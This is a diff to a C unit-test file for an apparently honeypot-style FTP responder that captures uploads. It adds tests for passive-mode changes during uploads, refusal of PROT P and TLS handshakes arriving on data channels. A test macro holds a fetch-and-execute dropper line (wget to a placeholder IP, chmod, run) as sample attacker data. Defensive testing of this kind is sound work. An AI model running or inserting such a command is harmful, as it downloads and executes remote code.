@@ -6,12 +6,14 @@
  */
 #include "test_resp_harness.h"
 
-enum { D_NONE, D_UPLOAD, D_CLOSE, D_FAIL };
+/* D_SEND: bytes on the data channel, which stays open */
+enum { D_NONE, D_UPLOAD, D_CLOSE, D_FAIL, D_SEND };
 
 struct step {
 	const char *ctl; /* client control bytes */
 	int data;        /* what happens on the data channel afterwards */
 	const char *bytes;
+	size_t len; /* of bytes; 0: strlen */
 };
 
 /* Run the steps; returns the final action. */
@@ -21,15 +23,19 @@ static int run_steps(struct tr_conn *c, const struct step *s, int n, int bytewis
 	for (int i = 0; i < n; i++) {
 		if (s[i].ctl && tr_feeds(c, s[i].ctl, bytewise) == RESP_CLOSE)
 			break;
+		size_t len = s[i].bytes ? (s[i].len ? s[i].len : strlen(s[i].bytes)) : 0;
 		switch (s[i].data) {
 		case D_UPLOAD:
+		case D_SEND:
 			if (bytewise)
-				for (size_t k = 0; s[i].bytes[k]; k++)
+				for (size_t k = 0; k < len; k++)
 					c->r->data_input(c->st, (const uint8_t *)s[i].bytes + k,
 					                 1, &c->out);
 			else
-				c->r->data_input(c->st, (const uint8_t *)s[i].bytes,
-				                 strlen(s[i].bytes), &c->out);
+				c->r->data_input(c->st, (const uint8_t *)s[i].bytes, len,
+				                 &c->out);
+			if (s[i].data == D_SEND)
+				break;
 			/* fall through */
 		case D_CLOSE:
 			c->act = c->r->data_closed(c->st, 0, &c->out);
@@ -43,13 +49,13 @@ static int run_steps(struct tr_conn *c, const struct step *s, int n, int bytewis
 	return c->act;
 }
 
-static void run_both(struct tr_conn *c, const struct step *s, int n,
-                     const struct resp_config *cfg)
+static void run_both_tls(struct tr_conn *c, const struct step *s, int n,
+                         const struct resp_config *cfg, int tls)
 {
 	struct tr_conn b;
-	tr_open(&b, &resp_ftp, cfg);
+	tr_open_tls(&b, &resp_ftp, cfg, tls);
 	run_steps(&b, s, n, 1);
-	tr_open(c, &resp_ftp, cfg);
+	tr_open_tls(c, &resp_ftp, cfg, tls);
 	run_steps(c, s, n, 0);
 	assert_int_equal(c->act, b.act);
 	assert_string_equal(tr_out(c), tr_out(&b));
@@ -60,6 +66,12 @@ static void run_both(struct tr_conn *c, const struct step *s, int n,
 	assert_memory_equal(c->ev.data + c->fields_at, b.ev.data + b.fields_at,
 	                    c->ev.len - c->fields_at);
 	tr_close(&b);
+}
+
+static void run_both(struct tr_conn *c, const struct step *s, int n,
+                     const struct resp_config *cfg)
+{
+	run_both_tls(c, s, n, cfg, 0);
 }
 
 #define UPLOAD "#!/bin/sh\nwget http://198.51.100.7/x86 -O /tmp/x; chmod +x /tmp/x; /tmp/x\n"
@@ -241,7 +253,7 @@ static void test_auth_tls(void **state)
 	assert_string_equal(tr_out(&c), "234 Proceed with negotiation.\r\n");
 	resp_out_consume(&c.out, c.out.len);
 	tr_feeds(&c, "PBSZ 0\r\nPROT P\r\nUSER a\r\n", 0);
-	assert_string_equal(tr_out(&c), "200 PBSZ set to 0.\r\n200 PROT now Private.\r\n"
+	assert_string_equal(tr_out(&c), "200 PBSZ set to 0.\r\n536 PROT not supported.\r\n"
 	                                "331 Please specify the password.\r\n");
 	tr_render(&c);
 	assert_string_equal(tr_str(&c, "credentials.username"), "a");
@@ -278,6 +290,161 @@ static void test_limits_and_timeout(void **state)
 	free(big);
 }
 
+/* The reviewer's transcript: STOR, bytes, then PASV while the upload's data
+ * connection is still open, more bytes on it, then it closes. */
+#define PART1                                                                                  \
+	"\x7f"                                                                                 \
+	"ELF MALWARE-UPLOAD part one; "
+#define PART2 "part two, after the PASV"
+
+static void test_pasv_while_uploading(void **state)
+{
+	static const struct step s[] = {
+	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR dropper.elf\r\n", D_SEND, PART1},
+	    {"PASV\r\n", D_SEND, PART2},
+	    {NULL, D_CLOSE, NULL},
+	    {"QUIT\r\n", D_NONE, NULL},
+	};
+	struct tr_conn c;
+	run_both(&c, s, 4, NULL);
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].kind, "ftp_upload");
+	assert_string_equal(c.pl[0].name, "dropper.elf");
+	assert_int_equal(c.pl[0].len, strlen(PART1 PART2));
+	assert_memory_equal(c.pl[0].data, PART1 PART2, strlen(PART1 PART2));
+	assert_int_equal(c.pl[0].truncated, 0);
+	/* one reply per command: the late end of the upload is not answered */
+	assert_string_equal(tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n"),
+	                    "331 Please specify the password.\r\n230 Login successful.\r\n"
+	                    "227 Entering Passive Mode (192,0,2,10,156,65).\r\n"
+	                    "150 Ok to send data.\r\n"
+	                    "227 Entering Passive Mode (192,0,2,10,156,66).\r\n"
+	                    "221 Goodbye.\r\n");
+	tr_close(&c);
+
+	/* the same with PORT and EPRT, the session ending with the upload open */
+	static const struct step p[] = {
+	    {"USER a\r\nPASS b\r\nEPSV\r\nSTOR up.bin\r\n", D_SEND, PART1},
+	    {"PORT 127,0,0,1,4,1\r\n", D_SEND, PART2},
+	    {"EPRT |1|127.0.0.1|1025|\r\n", D_NONE, NULL},
+	};
+	run_both(&c, p, 3, NULL);
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].name, "up.bin");
+	assert_memory_equal(c.pl[0].data, PART1 PART2, strlen(PART1 PART2));
+	tr_close(&c);
+
+	/* a new transfer ends the upload left open; the next one is its own file */
+	static const struct step n[] = {
+	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR first.bin\r\n", D_SEND, PART1},
+	    {"PASV\r\nSTOR second.bin\r\n", D_UPLOAD, PART2},
+	};
+	run_both(&c, n, 2, NULL);
+	assert_int_equal(c.npl, 2);
+	assert_string_equal(c.pl[0].name, "first.bin");
+	assert_int_equal(c.pl[0].len, strlen(PART1));
+	assert_memory_equal(c.pl[0].data, PART1, strlen(PART1));
+	assert_string_equal(c.pl[1].name, "second.bin");
+	assert_string_equal((char *)c.pl[1].data, PART2);
+	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n226 Transfer complete.\r\n"));
+	tr_close(&c);
+
+	/* bytes on a passive connection before any STOR: kept when PORT comes */
+	static const struct step e[] = {
+	    {"USER a\r\nPASS b\r\nPASV\r\n", D_SEND, PART1},
+	    {"PORT 127,0,0,1,4,1\r\nQUIT\r\n", D_NONE, NULL},
+	};
+	run_both(&c, e, 2, NULL);
+	assert_int_equal(c.npl, 1);
+	assert_memory_equal(c.pl[0].data, PART1, strlen(PART1));
+	tr_close(&c);
+
+	/* an upload larger than payload_max left open: kept, truncated, not lost */
+	struct resp_config small = {0};
+	small.max_payload = 8;
+	run_both(&c, s, 4, &small);
+	assert_int_equal(c.npl, 1);
+	assert_int_equal(c.pl[0].len, 8);
+	assert_memory_equal(c.pl[0].data, PART1, 8);
+	assert_int_equal(c.pl[0].truncated, 1);
+	tr_close(&c);
+}
+
+/* What curl sends first on a data connection after PROT P: a ClientHello. */
+static const char client_hello[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
+                                   "0123456789abcdef0123456789abcdef";
+
+static void test_prot_p_refused(void **state)
+{
+	/* implicit FTPS (990): the data connections are never protected */
+	static const char tx[] = "FEAT\r\nPBSZ 0\r\nPROT P\r\nUSER a\r\nPASS b\r\n"
+	                         "PROT P\r\nPROT S\r\nPROT X\r\nPROT C\r\n";
+	struct tr_conn c;
+	tr_open_tls(&c, &resp_ftp, NULL, 1);
+	tr_start(&c);
+	tr_feeds(&c, tx, 1);
+	assert_string_equal(tr_out(&c) + strlen("220 (vsFTPd 3.0.3)\r\n"),
+	                    "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n"
+	                    " REST STREAM\r\n SIZE\r\n TVFS\r\n UTF8\r\n211 End\r\n"
+	                    "200 PBSZ set to 0.\r\n"
+	                    "536 PROT not supported.\r\n"
+	                    "331 Please specify the password.\r\n230 Login successful.\r\n"
+	                    "536 PROT not supported.\r\n"
+	                    "536 PROT not supported.\r\n"
+	                    "504 PROT not recognized.\r\n"
+	                    "200 PROT now Clear.\r\n");
+	tr_close(&c);
+
+	/* explicit (AUTH TLS): the same once the control connection is in TLS */
+	struct resp_config cfg = {0};
+	cfg.starttls = 1;
+	tr_open(&c, &resp_ftp, &cfg);
+	tr_start(&c);
+	assert_int_equal(tr_feeds(&c, "AUTH TLS\r\n", 0), RESP_STARTTLS);
+	resp_out_consume(&c.out, c.out.len);
+	tr_feeds(&c, "FEAT\r\nUSER a\r\nPASS b\r\nPROT P\r\n", 0);
+	assert_false(tr_out_has(&c, "PROT\r\n"));
+	assert_false(tr_out_has(&c, "PBSZ\r\n"));
+	assert_true(tr_out_has(&c, "230 Login successful.\r\n536 PROT not supported.\r\n"));
+	tr_close(&c);
+}
+
+static void test_tls_hello_on_data_is_no_file(void **state)
+{
+	/* a client that protects its data connection anyway: the ClientHello is
+	 * not the file; the next transfer in clear is */
+	static const struct step s[] = {
+	    {"USER a\r\nPASS b\r\nPBSZ 0\r\nPROT P\r\nEPSV\r\nSTOR up.bin\r\n", D_UPLOAD,
+	     client_hello, sizeof(client_hello) - 1},
+	    {"EPSV\r\nSTOR up.bin\r\n", D_UPLOAD, UPLOAD},
+	    {"EPSV\r\n", D_UPLOAD, client_hello, sizeof(client_hello) - 1},
+	    {"STOR parked.bin\r\nQUIT\r\n", D_NONE, NULL},
+	};
+	struct tr_conn c;
+	run_both_tls(&c, s, 4, NULL, 1);
+	assert_int_equal(c.npl, 1);
+	assert_string_equal(c.pl[0].name, "up.bin");
+	assert_string_equal((char *)c.pl[0].data, UPLOAD);
+	assert_true(tr_out_has(&c, "150 Ok to send data.\r\n"
+	                           "426 Failure reading network stream.\r\n"
+	                           "229 Entering Extended Passive Mode (|||40002|)\r\n"
+	                           "150 Ok to send data.\r\n226 Transfer complete.\r\n"));
+	assert_int_equal(tr_int(&c, "ftp.data_tls"), 2);
+	tr_close(&c);
+
+	/* bytes that only start like one are a file */
+	static const char almost[] = "\x16\x03\x01\x00\x00\x01 not a handshake";
+	static const struct step a[] = {
+	    {"USER a\r\nPASS b\r\nPASV\r\nSTOR x.bin\r\n", D_UPLOAD, almost,
+	     sizeof(almost) - 1},
+	};
+	run_both(&c, a, 1, NULL);
+	assert_int_equal(c.npl, 1);
+	assert_int_equal(c.pl[0].len, sizeof(almost) - 1);
+	assert_int_equal(tr_int(&c, "ftp.data_tls"), -1);
+	tr_close(&c);
+}
+
 static void test_garbage(void **state)
 {
 	uint8_t junk[3000];
@@ -297,10 +464,17 @@ static void test_garbage(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-	    cmocka_unit_test(test_ftplib_session),      cmocka_unit_test(test_stand_in_file),
-	    cmocka_unit_test(test_data_before_command), cmocka_unit_test(test_dialogue),
-	    cmocka_unit_test(test_login_reject),        cmocka_unit_test(test_auth_tls),
-	    cmocka_unit_test(test_limits_and_timeout),  cmocka_unit_test(test_garbage),
+	    cmocka_unit_test(test_ftplib_session),
+	    cmocka_unit_test(test_stand_in_file),
+	    cmocka_unit_test(test_data_before_command),
+	    cmocka_unit_test(test_dialogue),
+	    cmocka_unit_test(test_login_reject),
+	    cmocka_unit_test(test_auth_tls),
+	    cmocka_unit_test(test_limits_and_timeout),
+	    cmocka_unit_test(test_garbage),
+	    cmocka_unit_test(test_pasv_while_uploading),
+	    cmocka_unit_test(test_prot_p_refused),
+	    cmocka_unit_test(test_tls_hello_on_data_is_no_file),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
